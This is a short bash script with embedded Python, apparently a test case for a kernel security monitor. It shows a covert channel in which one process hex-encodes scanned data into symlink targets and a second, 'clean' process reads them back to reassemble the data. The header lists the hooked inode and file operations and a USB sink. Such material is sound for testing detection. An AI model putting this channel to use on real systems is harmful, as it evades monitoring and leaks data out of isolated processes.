#!/usr/bin/env bash
# technique: the targets of symlinks on the own disk carry the data from one process to a clean one
# hooks: inode_symlink, inode_readlink, file_open
# sink: usb

. attack.sh
python3 - <<'PY'
from attack import *

text = scan()[: 1 << 14].hex()
for number, start in enumerate(range(0, len(text), 4000)):
    os.symlink(text[start : start + 4000], f"{ROOM}/link{number}")
PY
python3 - <<'PY'
from attack import *

links = sorted(name for name in os.listdir(ROOM) if name.startswith("link"))
keep(bytes.fromhex("".join(os.readlink(f"{ROOM}/{name}") for name in links)))
PY
